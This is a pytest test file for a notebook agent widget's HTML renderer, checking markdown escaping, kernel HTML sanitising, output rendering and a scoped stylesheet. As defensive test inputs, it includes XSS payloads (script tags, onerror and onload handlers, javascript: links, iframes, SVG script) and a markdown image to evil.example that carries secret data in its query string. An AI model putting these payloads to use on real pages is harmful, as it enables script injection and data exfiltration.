"""The widget's HTML: model markdown escaped, kernel HTML sanitised, outputs rendered,
and a stylesheet that stays inside the widget and follows the theme."""

from __future__ import annotations

import base64
import re

import pandas as pd
import pytest

from agentnb.chat.approval import ApprovalRequest, Decision
from agentnb.chat.messages import Execution
from agentnb.models.base import Usage
from agentnb.ui import render

# a real 1×1 PNG
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
).decode()


# --- the agents' markdown ----------------------------------------------------------------


def test_raw_html_in_model_markdown_is_shown_as_text() -> None:
    html = render.markdown_html(
        "Look: <script>alert(1)</script> and <img src=x onerror=alert(2)> **bold**"
    )
    assert "<script" not in html
    assert "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<strong>bold</strong>" in html


def test_markdown_links_are_safe_and_remote_images_are_not_fetched() -> None:
    html = render.markdown_html(
        "[bad](javascript:alert(1)) [good](https://example.org/a) "
        "![chart](https://evil.example/pixel.png?data=secret) "
        f"![inline](data:image/png;base64,{PNG})"
    )
    assert 'href="javascript' not in html
    assert '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer">good</a>' in (
        html
    )
    # a remote image is a link the user may follow, never an <img> the browser loads
    assert '<img src="https://evil.example' not in html
    assert '<a href="https://evil.example/pixel.png?data=secret"' in html
    assert f'<img src="data:image/png;base64,{PNG}" alt="inline"' in html


def test_markdown_tables_and_python_fences_render() -> None:
    html = render.markdown_html(
        "| region | growth |\n|---|---:|\n| South | 75% |\n\n```python\nimport pandas as pd\n```"
    )
    assert "<table>" in html
    assert "<td>South</td>" in html
    assert '<span class="kn">import</span>' in html  # Pygments' classes, themed by CSS


def test_code_is_highlighted_and_escaped() -> None:
    html = render.code_html("def f(x):\n    return x < 1  # <b>\n")
    assert html.startswith('<pre class="agentnb-code"><code>')
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">f</span>' in html
    assert "&lt;" in html
    assert "<b>" not in html


# --- HTML from the kernel --------------------------------------------------------------


def test_the_sanitiser_drops_scripts_handlers_and_dangerous_urls() -> None:
    dirty = (
        '<div onclick="steal()" style="color:red" id="x">'
        "<script>alert('</div>')</script>"
        "<style>.agentnb { display: none }</style>"
        '<img src="x" onerror="alert(1)">'
        '<img src="data:image/png;base64,AAAA" onload="alert(2)">'
        '<a href="javascript:alert(3)">js</a>'
        '<a href=" JaVaScRiPt:alert(4)">js2</a>'
        '<a href="https://example.org">ok</a>'
        "<iframe src='https://evil.example'>inside</iframe>"
        "<svg><script>alert(5)</script></svg>"
        "&lt;script&gt;still text&lt;/script&gt;"
        "</div>"
    )
    clean = render.sanitize_html(dirty)
    for bad in ("<script", "<style", "onclick", "onerror", "onload", "javascript", "<iframe"):
        assert bad not in clean.lower(), bad
    assert "inside" not in clean
    assert "style=" not in clean
    assert "id=" not in clean
    assert '<img src="data:image/png;base64,AAAA">' in clean
    assert '<a href="https://example.org" target="_blank" rel="noopener noreferrer">ok</a>' in clean
    # escaped markup in the source stays escaped text, never becomes a tag
    assert "&lt;script&gt;still text&lt;/script&gt;" in clean
    assert clean.startswith("<div>")
    assert clean.endswith("</div>")


def test_the_sanitiser_keeps_a_dataframe_table() -> None:
    frame = pd.DataFrame({"region": ["South", "West"], "growth": [75.2, -10.7]})
    clean = render.sanitize_html(frame._repr_html_())
    assert '<table class="dataframe">' in clean
    assert "<th>region</th>" in clean
    assert "<td>South</td>" in clean
    assert "<td>-10.7</td>" in clean
    assert "<style" not in clean  # pandas' scoped style block goes


def test_the_sanitiser_closes_what_it_opened_and_refuses_borrowed_classes() -> None:
    clean = render.sanitize_html('<table><tr><td class="agentnb-approve dataframe">1')
    assert clean == '<table><tr><td class="dataframe">1</td></tr></table>'


# --- outputs -----------------------------------------------------------------------------


def test_a_dataframe_result_renders_as_a_table() -> None:
    frame = pd.DataFrame({"a": [1, 2]})
    html = render.output_html(
        {
            "output_type": "execute_result",
            "execution_count": 3,
            "data": {"text/html": frame._repr_html_(), "text/plain": repr(frame)},
            "metadata": {},
        }
    )
    assert html.startswith('<div class="agentnb-out-html"><div>')
    assert '<table class="dataframe">' in html


def test_a_png_renders_as_an_image_and_bad_base64_does_not() -> None:
    html = render.output_html(
        {
            "output_type": "display_data",
            "data": {"image/png": PNG + "\n", "text/plain": "<Figure size 640x480 with 1 Axes>"},
            "metadata": {"image/png": {"width": 320}},
        }
    )
    assert f'<img src="data:image/png;base64,{PNG}" width="320" alt="plot">' in html
    bad = render.output_html(
        {
            "output_type": "display_data",
            "data": {"image/png": '" onerror="alert(1)', "text/plain": "a figure"},
            "metadata": {},
        }
    )
    assert "<img" not in bad
    assert "a figure" in bad


def test_svg_is_shown_as_an_image_never_inline() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    html = render.output_html({"output_type": "display_data", "data": {"image/svg+xml": svg}})
    assert "<svg" not in html
    assert '<img src="data:image/svg+xml;base64,' in html


def test_html_that_was_all_script_falls_back_to_its_text() -> None:
    html = render.output_html(
        {
            "output_type": "display_data",
            "data": {"text/html": "<script>draw()</script>", "text/plain": "Figure(...)"},
        }
    )
    assert "Figure(...)" in html
    assert "draw()" not in html


def test_streams_render_as_pre_and_long_ones_fold_with_a_summary() -> None:
    out = render.output_html({"output_type": "stream", "name": "stdout", "text": "a < b\n"})
    assert out == '<pre class="agentnb-out-stream">a &lt; b</pre>'
    err = render.output_html({"output_type": "stream", "name": "stderr", "text": "warn\n"})
    assert 'class="agentnb-out-stderr"' in err
    text = "".join(f"line {i}\n" for i in range(200))
    long = render.output_html({"output_type": "stream", "name": "stdout", "text": text})
    visible, folded = long.split("<details>")
    assert "line 11" in visible
    assert "line 12" not in visible
    assert "<summary>188 more lines of stdout" in folded
    assert "line 199" in folded


def test_an_error_shows_its_name_and_its_traceback_without_colour_codes() -> None:
    html = render.output_html(
        {
            "output_type": "error",
            "ename": "KeyError",
            "evalue": "'<missing>'",
            "traceback": ["\x1b[0;31mKeyError\x1b[0m Traceback", "----> 1 df['<missing>']"],
        }
    )
    assert "KeyError: '&lt;missing&gt;'" in html
    assert "\x1b" not in html
    assert "<details open><summary>traceback (2 lines)</summary>" in html


def test_an_execution_shows_its_status_duration_note_and_outputs() -> None:
    execution = Execution(
        code="1/0",
        status="timeout",
        outputs=({"output_type": "stream", "name": "stdout", "text": "partial\n"},),
        execution_count=4,
        duration=12.5,
        note="the step ran past its 10 s limit and was interrupted",
    )
    html = render.execution_html(2, execution, edited="x = 1")
    assert '<span class="agentnb-badge agentnb-badge-timeout">timeout</span>' in html
    assert "step 2" in html
    assert "12 s" in html
    assert "ran past its 10 s limit" in html
    assert "partial" in html
    assert "your edit, as it ran" in html
    assert "agentnb-badge-running" in render.execution_html(3, None)


# --- words and numbers -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cost", "estimated", "shown"),
    [
        (None, False, "—"),
        (None, True, "—"),
        (0.0, True, "$0"),
        (0.01234, False, "$0.0123"),
        (0.01234, True, "~$0.0123"),
        (12.5, False, "$12.50"),
    ],
)
def test_costs(cost: float | None, estimated: bool, shown: str) -> None:
    assert render.format_cost(cost, estimated) == shown


def test_tokens_and_durations() -> None:
    assert render.format_tokens(12345) == "12,345 tokens"
    assert render.format_tokens(12345, estimated=True) == "~12,345 tokens"
    assert render.format_duration(0.42) == "0.4 s"
    assert render.format_duration(42) == "42 s"
    assert render.format_duration(185) == "3 min 05 s"
    assert render.format_duration(3720) == "1 h 02 min"


def test_usage_per_agent_and_in_total() -> None:
    html = render.usage_html(
        {"analyst": Usage(1000, 200, 2), "critic": Usage(300, 20, 1, estimated=True)},
        {"analyst": 0.0123, "critic": None},
    )
    assert "analyst</span> 1,200 tokens · $0.0123" in html
    assert "critic</span> ~320 tokens · —" in html
    assert "total ~1,520 tokens · —" in html  # one unknown price makes the total unknown
    assert 'title="1,000 prompt + 200 completion tokens, 2 calls"' in html


def test_a_rejection_shows_the_feedback_escaped() -> None:
    request = ApprovalRequest(kind="step", step=3, text="", code="x")
    html = render.decision_html(request, Decision.reject("use <b>log</b> scale"))
    assert "you rejected step 3" in html
    assert "use &lt;b&gt;log&lt;/b&gt; scale" in html
    final = ApprovalRequest(kind="final", step=None, text="r")
    assert "you accepted the report" in render.decision_html(final, Decision.approve())


def test_agents_get_stable_colour_classes() -> None:
    assert render.agent_classes("analyst") == ("agentnb-agent-analyst",)
    assert render.agent_classes("statistician") == render.agent_classes("statistician")
    assert render.agent_classes("statistician")[0].startswith("agentnb-palette-")
    # a name is text, never markup
    assert "<i>" not in render.head_html("<i>x</i>", "proposes step 1")


# --- the stylesheet ------------------------------------------------------------------------


def _rules(css: str) -> list[tuple[str, str]]:
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    css = re.sub(r"@keyframes[^{]*\{(?:[^{}]*\{[^}]*\})*[^}]*\}", "", css)
    return [(sel.strip(), body) for sel, body in re.findall(r"([^{}]+)\{([^}]*)\}", css)]


def test_the_stylesheet_stays_inside_the_widget() -> None:
    rules = _rules(render.stylesheet())
    assert len(rules) > 50
    for selectors, _ in rules:
        for selector in selectors.split(","):
            assert selector.strip().startswith(".agentnb"), selector


def test_the_stylesheet_takes_its_colours_from_the_theme() -> None:
    css = render.stylesheet()
    for variable in (
        "--jp-layout-color1",
        "--jp-ui-font-color1",
        "--jp-border-color2",
        "--jp-brand-color1",
        "--jp-error-color1",
        "--jp-code-font-family",
        "--jp-mirror-editor-keyword-color",
    ):
        assert f"var({variable}," in css, variable  # each with a fallback
    # colours written out appear only as fallbacks or as the agents' identity colours
    for _, body in _rules(css):
        for declaration in body.split(";"):
            if re.search(r"#[0-9a-fA-F]{3,6}\b", declaration) and "var(" not in declaration:
                assert "--agentnb-accent" in declaration or "background: #fff" in declaration, (
                    declaration
                )
